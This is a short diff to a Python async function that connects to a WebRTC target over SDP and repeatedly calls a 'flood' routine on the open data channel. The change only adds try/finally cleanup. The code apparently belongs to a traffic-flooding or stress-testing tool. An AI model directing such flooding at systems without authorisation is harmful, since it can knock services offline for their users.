@@ -102,16 +102,18 @@ async def _call(target: Target, path: str, flood: Callable[[Any, Any, Target], A
     from aiortc import RTCSessionDescription
 
     peer, channel = _peer()
-    opened = asyncio.Event()
-    channel.on("open", opened.set)
-    await peer.setLocalDescription(await peer.createOffer())
-    answer = await asyncio.to_thread(target.request, "POST", path, SDP, body=peer.localDescription.sdp.encode())
-    await peer.setRemoteDescription(RTCSessionDescription(answer.partition(b"\r\n\r\n")[2].decode(), "answer"))
-    await asyncio.wait_for(opened.wait(), 10)
-    while target.running and peer.connectionState == "connected":
-        await flood(peer, channel, target)
-        await asyncio.sleep(0)
-    await peer.close()
+    try:
+        opened = asyncio.Event()
+        channel.on("open", opened.set)
+        await peer.setLocalDescription(await peer.createOffer())
+        answer = await asyncio.to_thread(target.request, "POST", path, SDP, body=peer.localDescription.sdp.encode())
+        await peer.setRemoteDescription(RTCSessionDescription(answer.partition(b"\r\n\r\n")[2].decode(), "answer"))
+        await asyncio.wait_for(opened.wait(), 10)
+        while target.running and peer.connectionState == "connected":
+            await flood(peer, channel, target)
+            await asyncio.sleep(0)
+    finally:
+        await peer.close()
 
 
 async def _packets(peer: RTCPeerConnection, channel: RTCDataChannel, target: Target, source: int = 1) -> None:
